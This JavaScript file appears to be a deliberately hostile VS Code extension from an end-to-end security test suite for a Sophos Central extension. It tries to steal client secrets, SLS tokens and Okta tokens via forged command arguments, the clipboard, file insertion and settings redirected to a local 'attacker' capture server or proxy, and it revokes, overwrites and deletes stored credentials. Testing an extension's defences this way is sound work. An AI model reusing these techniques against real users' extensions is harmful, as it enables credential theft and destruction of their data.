// A hostile extension for the e2e suite (plain JavaScript, loaded as is). It knows only what any extension
// can know: command ids, their argument shapes, the authentication provider id. The test tells it where to
// write what it got (SOPHOS_HOSTILE_DIR); every attempt is recorded with what came out.
const vscode = require('vscode');
const http = require('node:http');
const fs = require('node:fs');
const path = require('node:path');

const dir = () => process.env.SOPHOS_HOSTILE_DIR;
const config = () => JSON.parse(fs.readFileSync(path.join(dir(), 'config.json'), 'utf8'));
const run = (command, ...args) => vscode.commands.executeCommand(`sophosCentral.${command}`, ...args);

async function attempt(results, name, work) {
  try {
    const got = await work();
    results.push({ name, ok: true, got: typeof got === 'string' ? got : JSON.stringify(got ?? null) });
  } catch (error) {
    results.push({ name, ok: false, got: String((error && error.message) || error) });
  }
}

async function clipboardAfter(work) {
  await vscode.env.clipboard.writeText('hostile-empty');
  const result = await work();
  return `${JSON.stringify(result)} clipboard=${await vscode.env.clipboard.readText()}`;
}

/** A local server standing in for a host the attacker controls: it records every body it receives. */
function captureServer() {
  const bodies = [];
  const server = http.createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += chunk));
    request.on('end', () => {
      bodies.push(`${request.method} ${request.url} ${body}`);
      response.writeHead(401, { 'content-type': 'application/json' });
      response.end('{"errorCode":"oauth.invalid_client_secret","message":"Unauthorized"}');
    });
  });
  // As a proxy: a client tunnels through CONNECT; to a plain-http host the tunnel carries the request in clear.
  server.on('connect', (request, socket) => {
    socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
    socket.on('data', (chunk) => {
      bodies.push(`CONNECT ${request.url} ${chunk.toString()}`);
      const body = '{"errorCode":"oauth.invalid_client_secret","message":"Unauthorized"}';
      socket.end(
        `HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`,
      );
    });
    socket.on('error', () => undefined);
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({ url: `http://127.0.0.1:${server.address().port}`, bodies, close: () => server.close() }),
    ),
  );
}

async function setup() {
  const { clientId, clientSecret } = config();
  const added = await run('addCredential', {
    name: 'Victim',
    clientId,
    clientSecret,
    role: 'superAdmin',
    createdOn: '2026-01-15',
  });
  const token = await run('createSlsToken', { credential: 'Victim', label: 'Victim token' });
  const integration = await run('addIntegrationCredential', {
    type: 'oktaApiToken',
    name: 'Victim Okta',
    permissions: 'write',
    integrations: ['Response Action'],
    values: { url: 'https://acme.okta.com' },
    secrets: { apiToken: config().oktaToken },
    acknowledge: true,
  });
  fs.writeFileSync(
    path.join(dir(), 'setup.json'),
    JSON.stringify({ credentialId: added.id, tokenId: token.id, integrationId: integration.id }),
  );
}

async function attack(round) {
  const { credentialId, tokenId, integrationId } = JSON.parse(fs.readFileSync(path.join(dir(), 'setup.json'), 'utf8'));
  const results = [];
  // 1. Forged tree nodes: the shape of a node, not one the tree made.
  await attempt(results, 'copyToken with a forged token node', () =>
    clipboardAfter(() => run('copyToken', { kind: 'token', credentialId, tokenId })),
  );
  await attempt(results, 'copyIntegrationSecret with a forged field node', () =>
    clipboardAfter(() =>
      run('copyIntegrationSecret', { kind: 'integrationField', credentialId: integrationId, fieldId: 'apiToken' }),
    ),
  );
  await attempt(results, 'copyIntegrationSecret with arguments', () =>
    clipboardAfter(() => run('copyIntegrationSecret', { credential: integrationId, field: 'apiToken' })),
  );
  await attempt(results, 'copyForConnectorProfile clientSecret', () =>
    clipboardAfter(() => run('copyForConnectorProfile', { credential: 'Victim', copy: 'clientSecret' })),
  );
  // 2. Into a document the attacker reads.
  await attempt(results, 'insertTokenAtCursor into an untitled editor', async () => {
    const document = await vscode.workspace.openTextDocument({ content: '' });
    await vscode.window.showTextDocument(document);
    const result = await run('insertTokenAtCursor', { tokenId });
    const text = document.getText();
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    return `${JSON.stringify(result)} document=${text}`;
  });
  await attempt(results, 'insertTokenAtCursor interactive with no editor', async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    return clipboardAfter(() => run('insertTokenAtCursor', { tokenId, interactive: true }));
  });
  await attempt(results, 'insertTokenIntoFile', async () => {
    const file = path.join(dir(), `stolen-${round}.env`);
    const result = await run('insertTokenIntoFile', { tokenId, file, gitignore: 'insertAnyway' });
    return `${JSON.stringify(result)} file=${fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : ''}`;
  });
  // 3. A session without a prompt of ours.
  await attempt(results, 'getSession with a credential scope', async () => {
    const session = await vscode.authentication.getSession('sophos-central', ['credential:Victim'], {
      createIfNone: true,
    });
    return `accessToken=${session ? session.accessToken : ''}`;
  });
  // 4. The Client Secret sent to a host the attacker controls, through the user's settings.
  await attempt(results, 'idUrl redirected to the attacker', async () => {
    const capture = await captureServer();
    const settings = vscode.workspace.getConfiguration('sophosCentral');
    const before = { idUrl: settings.inspect('idUrl').globalValue, apiUrl: settings.inspect('apiUrl').globalValue };
    await settings.update('idUrl', capture.url, vscode.ConfigurationTarget.Global);
    await settings.update('apiUrl', capture.url, vscode.ConfigurationTarget.Global);
    await new Promise((resolve) => setTimeout(resolve, 500)); // let the change reach every listener
    let outcome;
    try {
      outcome = await run('testCredential', { credential: 'Victim' }).then(
        (r) => JSON.stringify(r),
        (e) => `rejected: ${e.message}`,
      );
    } finally {
      await settings.update('idUrl', before.idUrl, vscode.ConfigurationTarget.Global);
      await settings.update('apiUrl', before.apiUrl, vscode.ConfigurationTarget.Global);
      capture.close();
    }
    return `${outcome} received=${capture.bodies.join(' | ')}`;
  });
  // 5. The Client Secret sent through a proxy of the attacker's, to the host the user allowed.
  await attempt(results, 'http.proxy pointed at the attacker', async () => {
    const capture = await captureServer();
    const http = vscode.workspace.getConfiguration('http');
    const before = http.inspect('proxy').globalValue;
    await http.update('proxy', capture.url, vscode.ConfigurationTarget.Global);
    await new Promise((resolve) => setTimeout(resolve, 500));
    let outcome;
    try {
      outcome = await run('testCredential', { credential: 'Victim' }).then(
        (r) => JSON.stringify(r),
        (e) => `rejected: ${e.message}`,
      );
    } finally {
      await http.update('proxy', before, vscode.ConfigurationTarget.Global);
      capture.close();
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    // VS Code itself (its telemetry) also takes the proxy while it is set: only traffic to the sandbox counts.
    const ours = capture.bodies.filter((body) => !/^CONNECT (?!127\.0\.0\.1[:\s])/.test(body));
    return `${outcome} received=${ours.join(' | ')}`;
  });
  // 6. Changing what the user stored.
  await attempt(results, 'updateToken expires the token in a minute', () =>
    run('updateToken', { credential: 'Victim', tokenId, expiresAt: new Date(Date.now() + 60_000).toISOString() }),
  );
  await attempt(results, 'editCredential overwrites the integration URL', () =>
    run('editCredential', { credential: integrationId, values: { url: 'https://attacker.okta.com' } }),
  );
  // 7. Destroying what the user stored.
  await attempt(results, 'revokeToken', () => run('revokeToken', { credential: 'Victim', tokenId }));
  await attempt(results, 'editCredential replaces the secret untested', () =>
    run('editCredential', { credential: 'Victim', clientSecret: 'hostile-secret', test: false }),
  );
  await attempt(results, 'deleteCredential', () => run('deleteCredential', { credential: 'Victim' }));
  await attempt(results, 'deleteCredential of the integration credential', () =>
    run('deleteCredential', { credential: integrationId }),
  );
  fs.writeFileSync(path.join(dir(), `attack-${round}.json`), JSON.stringify(results, null, 2));
}

/**
 * The quick fixes on a token found in a file are reachable by any extension: vscode.executeCodeActionProvider
 * hands back each action's command and its arguments, our own target object included. Once the user has put the
 * token in a file, the attacker runs the Rotate quick fix (which ends in a revoke) exactly as the lightbulb would.
 */
async function rotateViaQuickFix() {
  const { tokenId } = JSON.parse(fs.readFileSync(path.join(dir(), 'setup.json'), 'utf8'));
  const file = path.join(dir(), 'deploy.env');
  const report = {};
  report.insert = await run('insertTokenIntoFile', {
    tokenId,
    file,
    key: 'SOPHOS_SLS_TOKEN',
    gitignore: 'insertAnyway',
  });
  const uri = vscode.Uri.file(file);
  const document = await vscode.workspace.openTextDocument(uri);
  await vscode.window.showTextDocument(document);
  let found;
  for (let tries = 0; tries < 100 && !found; tries++) {
    found = vscode.languages.getDiagnostics(uri).find((diagnostic) => diagnostic.source === 'Sophos Central');
    if (!found) await new Promise((resolve) => setTimeout(resolve, 100));
  }
  if (!found) throw new Error('no finding on the token in the file');
  const actions = await vscode.commands.executeCommand('vscode.executeCodeActionProvider', uri, found.range);
  report.actions = actions.map((action) => action.title);
  const rotate = actions.find((action) => /^Rotate SLS Token/.test(action.title));
  if (!rotate || !rotate.command) throw new Error(`no Rotate quick fix among: ${report.actions.join(' | ')}`);
  report.rotated = await vscode.commands
    .executeCommand(rotate.command.command, ...(rotate.command.arguments || []))
    .then(
      (result) => JSON.stringify(result ?? null),
      (error) => `rejected: ${error.message}`,
    );
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  fs.writeFileSync(path.join(dir(), 'quick-fix.json'), JSON.stringify(report));
}

exports.activate = (context) => {
  let round = 0;
  context.subscriptions.push(
    vscode.commands.registerCommand('hostile.setup', () =>
      setup().catch((error) =>
        fs.writeFileSync(path.join(dir(), 'setup.json'), JSON.stringify({ error: String(error.message) })),
      ),
    ),
    vscode.commands.registerCommand('hostile.rotateViaQuickFix', () =>
      rotateViaQuickFix().catch((error) =>
        fs.writeFileSync(path.join(dir(), 'quick-fix.json'), JSON.stringify({ error: String(error.stack) })),
      ),
    ),
    vscode.commands.registerCommand('hostile.attack', () =>
      attack(++round).catch((error) =>
        fs.writeFileSync(path.join(dir(), `attack-${round}.json`), JSON.stringify({ error: String(error.stack) })),
      ),
    ),
  );
};
exports.deactivate = () => {};
